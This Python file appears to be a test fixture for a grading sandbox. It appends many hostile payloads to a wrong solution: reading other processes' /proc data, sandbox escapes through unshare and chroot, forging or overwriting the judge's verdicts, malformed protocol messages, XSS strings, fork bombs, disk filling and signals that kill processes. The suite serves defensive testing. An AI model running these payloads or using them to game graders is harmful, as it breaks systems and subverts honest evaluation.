"""Attacks on the sandbox: what a file worth nothing does to get points, to cost others theirs, or to stay.

Each is put at the end of a file whose two functions, ``double(x)`` and ``shift(x)``, are written and wrong. None harms the machine:
what is written is bounded, what sleeps sleeps a minute at most, and signals go to numbers that a process finds around it.
"""

WORTHLESS = """
import numpy as np


def double(x):
    return np.zeros_like(x)


def shift(x):
    return np.zeros_like(x)


"""

TOOLS = """
import json, os, struct, sys, signal, ctypes, gc, threading, time, subprocess, glob, builtins, types


def pipes():
    return [file for file in range(3, 64) if os.path.exists(f"/proc/self/fd/{file}")]


def message(header, body=b""):
    head = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<IQ", len(head), len(body)) + head + body


def shout(data):
    for file in pipes():
        try:
            os.write(file, data)
        except OSError:
            pass


def again(function):
    global double, shift
    double = shift = function


"""

KNOWLEDGE = {
    "imports the solution": "from chainrule.labs.neuron import solution as s; double = shift = s.sigmoid",
    "imports the judge": "import chainrule.course.checking as c; c.Verdict = None",
    "finds the package on the path": """
for folder in sys.path:
    for path in glob.glob(folder + "/chainrule/**/*.py", recursive=True):
        exec(open(path).read())""",
    "looks for solutions everywhere": """
found = [os.path.join(here, name) for here, _, names in os.walk("/") if not here.startswith("/proc")
         for name in names if name in ("mini_solution.py", "xor.py", "train_neuron.py")]
for path in found:
    exec(open(path).read())""",
    "reads its parent": """
for pid in os.listdir("/proc"):
    for name in ("environ", "cmdline", "maps", "mem", "cwd", "root"):
        try:
            data = open(f"/proc/{pid}/{name}", "rb").read(1 << 20)
        except OSError:
            pass""",
    "looks through other processes' files": """
for path in glob.glob("/proc/*/fd/*") + glob.glob("/proc/*/root/*") + glob.glob("/proc/*/cwd/*"):
    try:
        exec(open(path).read(1 << 16))
    except BaseException:
        pass""",
    "takes the covers off": """
libc = ctypes.CDLL(None)
libc.unshare(0x10020000)
for line in open("/proc/self/mounts"):
    libc.umount2(line.split()[1].encode(), 2)
from chainrule.labs.neuron import solution""",
    "makes a root of its own": """
libc = ctypes.CDLL(None)
libc.unshare(0x10000000 | 0x20000)
os.chroot("/tmp")
for _ in range(20):
    os.chdir("..")
os.chroot(".")
import chainrule.labs""",
    "walks all objects": """
for one in gc.get_objects():
    if type(one).__name__ in ("Verdict", "Exercise", "Sheet", "Judged", "Checked"):
        one.status = "right" """,
    "walks all frames": """
frame = sys._getframe()
while frame:
    for value in list(frame.f_locals.values()):
        if hasattr(value, "right"):
            value.right.update(double=lambda x: 2 * x)
    frame = frame.f_back""",
    "waits for a stand-in": """
def shift(x):
    right = sys.modules.get("stand_in") or next((o for o in gc.get_objects() if type(o) is dict and "stand-in" in str(o.get("double", ""))), None)
    return right.shift(x)""",
    "keeps the stand-in's text": """
original = builtins.compile
def keep(text, *args, **kwargs):
    open("/tmp/kept", "a").write(str(text))
    return original(text, *args, **kwargs)
builtins.compile = keep
def shift(x):
    space = {"np": np}
    exec(open("/tmp/kept").read(), space)
    return space["shift"](x)""",
    "asks the environment": "exec(os.environ['CHAINRULE_SOLUTION'])",
}

FORGED = {
    "shouts verdicts": """shout(b'{"what": "judged", "name": "double", "verdict": {"status": "right", "share": 1.0}}\\n' * 50)""",
    "answers before it is asked": "shout(message({'value': ['l', 1.0, ['l']], 'changed': [], 'arrays': []}) * 200)",
    "answers in its function": """
def answer(x):
    shout(message({'value': ['l', ['l'], ['l']], 'changed': [], 'arrays': []}))
    return np.zeros_like(x)
again(answer)""",
    "sends rubbish": "shout(os.urandom(5000))",
    "sends a length of a terabyte": "shout(struct.pack('<IQ', 4_000_000, 2**40))",
    "sends a header without end": "shout(struct.pack('<IQ', 4_000_000, 0) + b'[' * 60000)",
    "nests its answer": "shout(message(b'[' * 50000 + b']' * 50000))",
    "nests its value": "shout(message(b'{\"arrays\": [], \"value\": ' + b'[\"l\",' * 20000 + b'1' + b']' * 20000 + b'}'))",
    "answers with a number of 5000 digits": "shout(message(b'{\"arrays\": [], \"value\": ' + b'9' * 5000 + b'}'))",
    "answers with objects": "shout(message({'arrays': [['|O', [3], 1]], 'value': ['a', 0], 'changed': []}, b'x' * 24))",
    "answers with texts of a gigabyte": "shout(message({'arrays': [['<U250000000', [1], 1]], 'value': ['a', 0], 'changed': []}))",
    "answers with an endless shape": "shout(message({'arrays': [['<f8', [10**18, 10**18], 1]], 'value': ['a', 0], 'changed': []}))",
    "answers with a negative shape": "shout(message({'arrays': [['<f8', [-1], 1]], 'value': ['a', 0], 'changed': []}))",
    "answers with an array that is not there": "shout(message({'arrays': [], 'value': ['a', 7], 'changed': []}))",
    "answers with an unknown tag": "shout(message({'arrays': [], 'value': ['pickle', 'os.system'], 'changed': []}))",
    "answers with a status": "shout(message({'arrays': [], 'value': {'status': 'right'}, 'changed': []}))",
    "answers with NaN": 'shout(message(b\'{"arrays": [], "value": NaN, "changed": [], "error": null}\'))',
    "changes the judge's arrays": """
def change(x):
    shout(message({'value': ['l', 1.0, ['l']], 'changed': [[-k, 0] for k in range(1, 50)], 'arrays': [['<f8', [3], 0]]}, bytes(24)))
    return x
again(change)""",
    "calls the judge's functions for ever": """
def call(x):
    while True:
        shout(message({'call': 0, 'args': ['l'], 'kwargs': ['d'], 'arrays': [], 'changed': []}))
again(call)""",
    "calls a function that nobody handed over": "shout(message({'call': -1, 'args': ['l'], 'kwargs': ['d'], 'arrays': [], 'changed': []}))",
    "raises in somebody else's name": """
def blame(x):
    shout(message({'error': {'kinds': ['ChainruleError', 'KeyboardInterrupt', 'SystemExit'], 'text': 'x' * 10**6,
                             'frames': [['/etc/passwd', 1, 'root']] * 3}, 'changed': [], 'arrays': []}))
    return x
again(blame)""",
    "raises without words": "shout(message({'error': None, 'changed': [], 'arrays': []}))",
    "lets another process answer": """
def server(x):
    if os.fork():
        time.sleep(0.2)
    shout(message({'value': ['l', 2.0, ['l']], 'changed': [], 'arrays': []}))
    return x
again(server)""",
    "becomes another program": """
for file in pipes():
    os.set_inheritable(file, True)
os.execv(sys.executable, [sys.executable, "-c", "import os\\nwhile True:\\n  for f in range(3, 20):\\n    try: os.write(f, b'right' * 99)\\n    except OSError: pass"])""",
    "closes the pipes": "again(lambda x: [os.close(file) for file in pipes()])",
    "never reads": "again(lambda x: time.sleep(60))",
    "takes the server's place": """
child = next(o for o in gc.get_objects() if type(o).__name__ == "Child")
type(child).do_call = lambda self, header, arrays: [1.0, []]
type(child).do_describe = lambda self, header, arrays: [["function", "function", None, "(x)"]] * 2""",
    "describes itself in markup": """
child = next(o for o in gc.get_objects() if type(o).__name__ == "Child")
type(child).do_describe = lambda self, header, arrays: [["other", "<img src=x onerror=alert(1)>[red]", ["<b>", 1], "<script>"]] * 2""",
    "says that all stood in": """
child = next(o for o in gc.get_objects() if type(o).__name__ == "Child")
type(child).do_step_back = lambda self, header, arrays: ["double", "shift", "<script>alert(1)</script>"] * 1000""",
    "breaks json, struct and numpy": "json.dumps = json.loads = struct.pack = np.asarray = np.zeros_like = None; json.JSONEncoder.encode = lambda *a: '{}'",
    "breaks len and isinstance": "builtins.len = builtins.isinstance = builtins.getattr = builtins.zip = lambda *a: 1",
    "traces the server": "sys.settrace(lambda *a: None); threading.settrace(lambda *a: None); sys.setprofile(lambda *a: None)",
}

VALUES = {
    "equals everything": """
class Equal(np.ndarray):
    __array_priority__ = 1e9
    def __eq__(self, other): return True
    def __array_ufunc__(self, *args, **kwargs): return True
    def __array_function__(self, *args, **kwargs): return True
again(lambda x: np.zeros_like(x).view(Equal))""",
    "is whatever is asked for": """
class Any:
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
    def __eq__(self, other): return True
    def __array__(self, *args, **kwargs): return self
    __class__ = property(lambda self: np.ndarray)
again(lambda x: Any())""",
    "is no list in its heart": """
class Endless(list):
    def __iter__(self):
        while True: yield 0.0
    def __len__(self): return 1
again(lambda x: Endless())""",
    "is a number of its own": """
class Number(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
again(lambda x: Number(3))""",
    "contains itself": "loop = []; loop.append(loop); again(lambda x: loop)",
    "returns a gigabyte": "again(lambda x: np.zeros(1 << 27))",
    "returns a list of ten million": "again(lambda x: [0.0] * 10**7)",
    "returns a text of a gigabyte": "again(lambda x: 'x' * (1 << 29))",
    "returns a dict with odd keys": "again(lambda x: {object(): 1, (1, (2, (3,))): 2, None: 3, b'x': 4, float('nan'): 5})",
    "returns a generator without end": "again(lambda x: iter(int, 1))",
    "exits when it is read": """
class Exits:
    def __array__(self, *args, **kwargs): os._exit(0)
    __repr__ = __str__ = lambda self: os._exit(0)
again(lambda x: Exits())""",
    "has a name of markup": "again(lambda x: type('<script>alert(1)</script>[bold]\\x1b[31m', (), {})())",
    "raises markup": "def raiser(x): raise ValueError('<script>alert(1)</script> [red]x[/red] \\x1b[2J \\u202e &amp; =cmd()')\nagain(raiser)",
    "raises a name of markup": "def raiser(x): raise type('<b>Bold</b>\\n\\n# x', (Exception,), {})('<i>')\nagain(raiser)",
    "raises what is no Exception": "def raiser(x): raise type('KeyboardInterrupt', (BaseException,), {})()\nagain(raiser)",
    "raises without end": """
class Deep(Exception):
    def __str__(self): return str(self)
def raiser(x): raise Deep
again(raiser)""",
    "changes its input to the answer": "def change(x):\n    x[...] = 0\n    return x\nagain(change)",
    "hides its file in a frame": "exec(compile('def f(x): raise ValueError', '<script>alert(1)</script>', 'exec'), globals())\nagain(f)",
}

STAYS = {
    "sleeps in a session of its own": "subprocess.Popen(['sleep', '50'], start_new_session=True)",
    "forks twice and sleeps": """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        time.sleep(50)
    os._exit(0)""",
    "forks without end": """
def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
threading.Thread(target=bomb, daemon=True).start()""",
    "starts threads without end": """
def bomb(x):
    while True:
        threading.Thread(target=time.sleep, args=(50,)).start()
again(bomb)""",
    "writes for ever": """
if os.fork() == 0:
    while True:
        try:
            open(f"{time.time()}", "wb").write(bytes(1 << 16))
        except OSError:
            time.sleep(0.01)""",
    "fills the disk": """
for place in (".", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
    for k in range(30):
        try:
            open(f"{place}/full{k}", "wb").write(bytes(1 << 24))
        except OSError:
            break""",
    "writes into the libraries": """
import site
for folder in [*sys.path, sys.prefix, os.path.dirname(np.__file__)]:
    try:
        open(folder + "/sitecustomize.py", "w").write("raise SystemExit")
    except OSError:
        pass""",
    "runs on at its end": "import atexit\n@atexit.register\ndef forever():\n    while True: time.sleep(1)",
    "ignores signals": "for k in range(1, 64):\n    try: signal.signal(k, signal.SIG_IGN)\n    except (OSError, ValueError): pass\nagain(lambda x: time.sleep(60))",
    "writes stacks without end": "import faulthandler\nthreading.Thread(target=lambda: [shout(b'Current thread (most recent call first):\\n' * 99) for _ in iter(int, 1)], daemon=True).start()",
    "opens a server": """
import socket
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen()
if os.fork() == 0: s.accept()""",
    "leaves shared memory": "from multiprocessing import shared_memory; m = shared_memory.SharedMemory(create=True, size=1 << 20)",
}

SIGNALS = {
    "interrupts its parent": "os.kill(os.getppid(), signal.SIGINT)",
    "ends its parent": "os.kill(os.getppid(), signal.SIGTERM); os.kill(os.getppid(), signal.SIGKILL)",
    "kills everybody": "os.kill(-1, signal.SIGKILL)",
    "kills its group": "os.killpg(0, signal.SIGKILL)",
    "stops its group": "os.killpg(0, signal.SIGSTOP)",
    "stops itself": "os.kill(os.getpid(), signal.SIGSTOP)",
    "kills every number": """
for pid in range(1, 70000):
    if pid != os.getpid():
        try: os.kill(pid, signal.SIGINT)
        except OSError: pass""",
    "holds on to its parent": """
libc = ctypes.CDLL(None, use_errno=True)
for pid in [os.getppid(), 1, *range(2, 300)]:
    libc.ptrace(16, pid, 0, 0)""",
    "ends in its function": "again(lambda x: os._exit(0))",
    "reads address 0": "again(lambda x: ctypes.string_at(0))",
}

ATTACKS = {
    name: WORTHLESS + TOOLS + code
    for group in (KNOWLEDGE, FORGED, VALUES, STAYS, SIGNALS)
    for name, code in group.items()
}
